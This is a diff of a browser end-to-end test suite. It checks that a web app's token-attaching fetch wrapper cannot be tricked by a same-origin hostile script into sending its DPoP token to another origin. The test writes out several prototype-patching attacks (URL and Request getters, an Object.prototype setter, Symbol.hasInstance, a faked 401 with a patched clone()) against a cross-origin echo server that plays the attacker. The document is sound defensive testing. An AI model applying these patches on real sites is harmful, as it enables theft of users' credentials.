@@ -244,37 +244,79 @@ test.describe("a hostile script of the same origin", () => {
     expect(await page.evaluate(() => (window as any).burst(1))).toEqual([200]);
   });
 
-  test("redefined URL and Request getters cannot send the token to another origin", async ({ context }) => {
+  test("patched prototypes cannot send the token or a proof to another origin", async ({ context }) => {
     const [tab] = await loggedInTabs(context, 1);
     // Another origin that answers this page (CORS) and echoes the Authorization it receives:
-    // what an attacker's server would do.
+    // what an attacker's server would do. Each attack runs after the app loaded, then undoes
+    // its patches; the app's own request must still carry the token at the end.
     const results = await tab.evaluate(async ({ evil, secret }) => {
       const here = location.origin;
       const echo = evil + "/test/echo";
-      const URLp = URL.prototype as any;
-      const Reqp = Request.prototype as any;
-      const desc = Object.getOwnPropertyDescriptor;
-      const [origin, url] = [desc(URLp, "origin")!, desc(Reqp, "url")!];
-      // After the app loaded: every URL claims this page's origin, every Request this page's URL.
-      Object.defineProperty(URLp, "origin", { configurable: true, get() { return here; } });
-      Object.defineProperty(Reqp, "url", { configurable: true, get() { return here + "/test/echo"; } });
+      const mine = here + "/test/echo";
       const headers = { "x-test-hooks-secret": secret };
-      const seen = async (p: Promise<Response>) => {
-        try { return (await (await p).json()).authorization ?? null; } catch (e) { return String(e); }
-      };
       const auth = (window as any).auth;
-      const out = {
-        string: await seen(auth.fetch(echo, { headers })),
-        request: await seen(auth.fetch(new Request(echo, { headers }))),
-        own: "",
+      const desc = Object.getOwnPropertyDescriptor;
+      // The test's own view, taken before any patch.
+      const originOf = desc(URL.prototype, "origin")!.get!;
+      /** Where the answer came from, and the Authorization the other origin saw (if it was it). */
+      const sent = async (p: Promise<Response>) => {
+        try {
+          const res = await p;
+          const from = originOf.call(new URL(res.url));
+          return from === here ? "here" : `${from}: ${(await res.json()).authorization}`;
+        } catch (e) { return String(e); }
       };
-      Object.defineProperty(URLp, "origin", origin);
-      Object.defineProperty(Reqp, "url", url);
-      out.own = await seen(auth.fetch("/test/echo", { headers }));
+      const patch = (o: object, k: PropertyKey, d: PropertyDescriptor) => {
+        const before = desc(o, k);
+        Object.defineProperty(o, k, { configurable: true, ...d });
+        return () => (before ? Object.defineProperty(o, k, before) : delete (o as any)[k]);
+      };
+      const out: Record<string, string> = {};
+
+      // 1. Every URL claims this page's origin, every Request this page's URL.
+      let undo = [
+        patch(URL.prototype, "origin", { get() { return here; } }),
+        patch(Request.prototype, "url", { get() { return mine; } }),
+      ];
+      out.urlGetters = await sent(auth.fetch(echo, { headers }));
+      out.requestGetter = await sent(auth.fetch(new Request(echo, { headers })));
+      undo.forEach((u) => u());
+
+      // 2. A setter on Object.prototype, so that an assigned `url` reads back as the evil one.
+      undo = [patch(Object.prototype, "url", { set() {}, get() { return echo; } })];
+      out.prototypeSetter = await sent(auth.fetch(mine, { headers }));
+      undo.forEach((u) => u());
+
+      // 3. instanceof answered "no" when the URL is checked, "yes" when the request is made; the
+      // Request's string form names this page.
+      let calls = 0;
+      undo = [patch(Request, Symbol.hasInstance, { value: () => calls++ > 0 })];
+      const r = new Request(echo, { headers });
+      (r as any)[Symbol.toPrimitive] = () => mine;
+      out.hasInstance = await sent(auth.fetch(r));
+      undo.forEach((u) => u());
+
+      // 4. A first answer faked as 401 (a replay follows), and clone() handing out an evil Request
+      // for that replay.
+      let faked = 0;
+      const status = desc(Response.prototype, "status")!.get!;
+      undo = [
+        patch(Response.prototype, "status", { get() { return faked++ === 0 ? 401 : status.call(this); } }),
+        patch(Request.prototype, "clone", { value() { return new Request(echo, { headers }); } }),
+      ];
+      out.cloneReplay = await sent(auth.fetch(new Request(mine, { headers })));
+      undo.forEach((u) => u());
+
+      const own = await auth.fetch(mine, { headers });
+      out.own = (await own.json()).authorization;
       return out;
     }, { evil: LONG, secret: HOOKS_SECRET });
-    expect(results.string, "a URL string of another origin").toBeNull();
-    expect(results.request, "a Request of another origin").toBeNull();
+    const evilSaw = `${LONG}: null`;
+    expect.soft(results.urlGetters, "URL getters: the other origin gets no token").toBe(evilSaw);
+    expect.soft(results.requestGetter, "Request.url getter: the other origin gets no token").toBe(evilSaw);
+    expect.soft(results.prototypeSetter, "a setter on Object.prototype: sent where it was checked").toBe("here");
+    expect.soft(results.hasInstance, "Symbol.hasInstance: the other origin gets no token").toBe(evilSaw);
+    expect.soft(results.cloneReplay, "a faked 401 and a patched clone(): sent where it was checked").toBe("here");
     expect(results.own, "the app's own requests still carry it").toMatch(/^DPoP ey/);
   });
 
